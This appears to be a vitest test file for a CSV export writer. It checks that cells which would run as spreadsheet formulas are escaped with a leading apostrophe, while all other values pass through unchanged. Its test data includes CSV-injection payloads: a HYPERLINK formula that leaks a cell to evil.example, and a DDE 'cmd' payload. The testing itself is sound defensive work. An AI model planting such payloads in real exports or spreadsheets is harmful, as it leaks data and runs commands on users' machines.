import { Writable } from "node:stream";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import type { Column, Row } from "@/lib/exports/formats/format";
import { ByteOutput } from "@/lib/exports/writers/byte-output";
import { csvWriter } from "@/lib/exports/writers/csv-writer";

const COLUMNS: Column[] = [
  { name: "rationale", type: "string", nullable: true },
  { name: "strength", type: "int", nullable: true },
  { name: "margin", type: "float" },
  { name: "flags", type: "json" },
  { name: "both_bad", type: "bool" },
  { name: "submitted_at", type: "timestamp" },
];

async function writeCsv(rows: Row[]) {
  const chunks: Buffer[] = [];
  const destination = new Writable({
    write(chunk: Buffer, _encoding, callback) {
      chunks.push(chunk);
      callback();
    },
  });
  const writer = csvWriter(COLUMNS, new ByteOutput(destination));
  for (const row of rows) await writer.write(row, "train");
  await writer.finish();
  const text = Buffer.concat(chunks).toString("utf8");
  return { text, records: parse(text, { columns: true }) as Record<string, string>[], escaping: writer.formulaEscaping() };
}

const AT = new Date("2026-03-04T05:06:07.089Z");

describe("CSV cells a spreadsheet would run as formulas", () => {
  const hostile = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "="];

  it("are written as text with a leading ', and counted for the manifest", async () => {
    const { records, escaping } = await writeCsv(hostile.map((text) => [text, -3, -0.5, { "0": ["-bad"] }, false, AT]));
    expect(records.map((record) => record.rationale)).toEqual(hostile.map((text) => `'${text}`));
    expect(escaping).toEqual({ formulaPrefix: "'", escapedLeadingCharacters: ["=", "+", "-", "@", "\t", "\r"], escapedCells: hostile.length });
  });

  it("leave numbers, booleans, timestamps and JSON text as they are: a negative strength stays -3", async () => {
    const { text, records } = await writeCsv([["=1+1", -3, -0.5, -7, true, AT]]);
    expect(records).toEqual([{ rationale: "'=1+1", strength: "-3", margin: "-0.5", flags: "-7", both_bad: "true", submitted_at: "2026-03-04T05:06:07.089Z" }]);
    expect(text.split("\n")[1]).toBe("'=1+1,-3,-0.5,-7,true,2026-03-04T05:06:07.089Z");
  });

  it("are the only change: other text, quotes, commas, newlines and an empty or missing value round-trip unchanged", async () => {
    const ordinary = [
      "A is better: it answers the question.",
      'She said "no, thanks", then left',
      "line one\nline two",
      "a - b = c, but only in the middle",
      " =leading space is not a formula",
      "'already quoted",
      "",
      "日本語のテキスト",
    ];
    const rows: Row[] = ordinary.map((text, i) => [text, i - 3, i / 4, { "1": ["off-topic"] }, i % 2 === 0, AT]);
    rows.push([null, null, 0, [], false, AT]);
    const { records, escaping } = await writeCsv(rows);
    expect(records.map((record) => record.rationale)).toEqual([...ordinary, ""]);
    expect(records.map((record) => record.strength)).toEqual(["-3", "-2", "-1", "0", "1", "2", "3", "4", ""]);
    expect(records[0].flags).toBe('{"1":["off-topic"]}');
    expect(escaping.escapedCells).toBe(0);
  });
});
